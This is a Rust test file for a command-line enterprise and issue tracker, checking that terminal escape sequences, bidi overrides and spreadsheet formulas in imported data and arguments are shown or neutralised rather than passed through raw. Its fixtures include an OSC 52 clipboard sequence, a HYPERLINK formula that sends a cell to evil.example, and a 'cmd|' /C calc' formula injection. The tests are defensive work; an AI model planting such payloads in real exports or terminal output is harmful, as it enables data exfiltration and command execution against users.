//! Hostile text never reaches the terminal raw: escape sequences (OSC 52 sets the clipboard)
//! and bidi overrides in stored data and in arguments are shown visibly on stdout and stderr,
//! JSON escapes them losslessly, and CSV cells a spreadsheet would run are neutralised.

use std::path::Path;
use std::process::Output;

use chrono::NaiveDateTime;
use dutydesk::desk::Desk;
use dutydesk::domain::{Enterprise, EventKind};

mod common;
const NOW: &str = "2026-09-30T10:00:00";
const OSC52: &str = "\u{1b}]52;c;aGk=\u{7}";
const CSI: &str = "\u{1b}[2J";

fn dd(dir: &Path, args: &[&str]) -> Output {
    common::run(dir, NOW, args)
}

fn ok(dir: &Path, args: &[&str]) -> String {
    String::from_utf8(common::must(dir, NOW, args).stdout).unwrap()
}

/// Neither stream carries a raw control (other than line breaks), a C1 control or a bidi
/// control.
fn assert_inert(o: &Output, what: &str) {
    for (name, bytes) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
        let s = String::from_utf8_lossy(bytes);
        let bad = s.chars().find(|c| {
            (c.is_control() && !matches!(c, '\n' | '\t' | '\r'))
                || ('\u{202a}'..='\u{202e}').contains(c)
                || ('\u{2066}'..='\u{2069}').contains(c)
                || *c == '\u{200b}'
        });
        assert_eq!(bad, None, "{what}: {name} carries {bad:?}:\n{s}");
    }
}

fn header() -> &'static str {
    "credit_code,name,district,grade,vip_categories,contact,phone\n"
}

#[test]
fn escape_sequences_in_an_imported_csv_are_shown_on_stderr_not_obeyed() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let f = d.join("evil.csv");
    std::fs::write(
        &f,
        format!(
            "{}91440300708461136T,重庆{OSC52}戴卡{CSI},西彭镇,,,,\n",
            header()
        ),
    )
    .unwrap();
    for lang in ["zh", "en"] {
        let o = dd(
            d,
            &["--lang", lang, "enterprise", "import", f.to_str().unwrap()],
        );
        assert_eq!(o.status.code(), Some(2));
        assert_inert(&o, "import");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("evil.csv:2:") && err.contains("U+001B"),
            "{err}"
        );
    }
}

#[test]
fn a_hostile_argument_is_echoed_visibly() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    ok(
        d,
        &["enterprise", "import", &common::fixture("enterprises.csv")],
    );
    let evil = format!("12{OSC52}\u{202e}");
    for args in [
        vec!["issue", "show", evil.as_str()],
        vec!["issue", "list", "--status", evil.as_str()],
        vec!["calendar", "is-workday", evil.as_str()],
        vec!["report", "--from", evil.as_str()],
        vec!["--lang", evil.as_str(), "issue", "list"],
    ] {
        let o = dd(d, &args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert_inert(&o, &format!("{args:?}"));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("12␛]52;c;aGk=␇⟨U+202E⟩"),
            "{args:?}: the value is shown visibly: {err}"
        );
    }
    // clap's own errors echo the argument too (clap drops escape sequences itself).
    for args in [
        vec![evil.as_str()],
        vec!["issue", "list", "--format", evil.as_str()],
    ] {
        let o = dd(d, &args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert_inert(&o, &format!("{args:?}"));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("12") && err.contains("⟨U+202E⟩"),
            "{args:?}: {err}"
        );
    }
}

/// A record from before names were checked: an enterprise name with a bidi override.
fn legacy_store() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    {
        let mut desk = Desk::open(d).unwrap();
        let at = NaiveDateTime::parse_from_str("2026-09-01T09:00:00", "%Y-%m-%dT%H:%M:%S").unwrap();
        let enterprise = Enterprise {
            credit_code: "91440300708461136T".into(),
            name: "重庆\u{202e}司公限有\u{200b}".into(),
            district: String::new(),
            grade: None,
            vip: vec![],
            contact: String::new(),
            phone: String::new(),
        };
        desk.bulk_commit(vec![(
            at,
            "旧版本".into(),
            EventKind::EnterpriseSaved { enterprise },
        )])
        .unwrap();
    }
    ok(
        d,
        &[
            "issue",
            "add",
            "--enterprise",
            "91440300708461136T",
            "--category",
            "融资信贷",
            "--text",
            &format!("描述{OSC52}\n第二行"),
        ],
    );
    dir
}

#[test]
fn a_bidi_override_shows_visibly_in_every_output() {
    let dir = legacy_store();
    let d = dir.path();
    for args in [
        vec!["issue", "list"],
        vec!["issue", "show", "1"],
        vec!["enterprise", "search", "91440300708461136T"],
        vec!["handover", "--since", "2026-09-30T08:00"],
    ] {
        let o = common::must(d, NOW, &args);
        assert_inert(&o, &format!("{args:?}"));
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(
            out.contains("重庆⟨U+202E⟩司公限有⟨U+200B⟩"),
            "{args:?}: {out}"
        );
    }
    // The markers count in the column widths: the next column stays aligned.
    let table = ok(d, &["issue", "list"]);
    let lines: Vec<&str> = table.lines().collect();
    let col = |l: &str, needle: &str| {
        let at = l.find(needle).unwrap_or_else(|| panic!("{needle} in {l}"));
        unicode_width::UnicodeWidthStr::width(&l[..at])
    };
    assert_eq!(
        col(lines[0], "下一期限"),
        col(lines[1], "2026-10-09"),
        "{table}"
    );
    let show = ok(d, &["issue", "show", "1"]);
    assert!(show.contains("描述␛]52;c;aGk=␇ 第二行"), "{show}");
    // JSON: escaped, and the original text reads back.
    for args in [
        vec!["issue", "list", "--format", "json"],
        vec!["issue", "show", "1", "--format", "json"],
        vec!["enterprise", "export", "--format", "json"],
    ] {
        let o = common::must(d, NOW, &args);
        assert_inert(&o, &format!("{args:?}"));
        let text = String::from_utf8(o.stdout).unwrap();
        assert!(
            text.contains("\\u202e") && text.contains("\\u200b"),
            "{text}"
        );
        let v: serde_json::Value = serde_json::from_str(&text).unwrap();
        let first = if v.is_array() { &v[0] } else { &v };
        let name = first
            .get("enterprise")
            .or_else(|| first.get("name"))
            .unwrap();
        assert_eq!(name, "重庆\u{202e}司公限有\u{200b}", "{args:?}");
    }
    let o = common::must(d, NOW, &["issue", "list", "--format", "csv"]);
    assert_inert(&o, "csv");
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let f = d.join("f.csv");
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    std::fs::write(
        &f,
        format!(
            "{}91440300708461136T,\"{}\",西彭镇,,,,\n",
            header(),
            formula.replace('"', "\"\"")
        ),
    )
    .unwrap();
    ok(d, &["enterprise", "import", f.to_str().unwrap()]);
    ok(
        d,
        &[
            "issue",
            "add",
            "--enterprise",
            "91440300708461136T",
            "--category",
            "融资信贷",
            "--text",
            "x",
        ],
    );
    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
    let list = ok(d, &["issue", "list", "--format", "csv"]);
    assert!(list.contains(&format!(",{quoted},")), "{list}");
    assert!(!list.contains(",=HYPERLINK"), "{list}");
    let export = ok(d, &["enterprise", "export"]);
    assert!(export.contains(&format!(",{quoted},")), "{export}");
    ok(
        d,
        &[
            "inspection",
            "add",
            "--unit",
            "tax",
            "--enterprise",
            "91440300708461136T",
            "--date",
            "2026-09-29",
            "--kind",
            "planned",
            "--result=-2+3+cmd|' /C calc'!A0",
        ],
    );
    let insp = ok(d, &["inspection", "list", "--format", "csv"]);
    assert!(insp.contains(",\"'-2+3+cmd|' /C calc'!A0\","), "{insp}");
    // The JSON keeps the text exactly.
    let v: serde_json::Value =
        serde_json::from_str(&ok(d, &["issue", "list", "--format", "json"])).unwrap();
    assert_eq!(v[0]["enterprise"], formula);
}
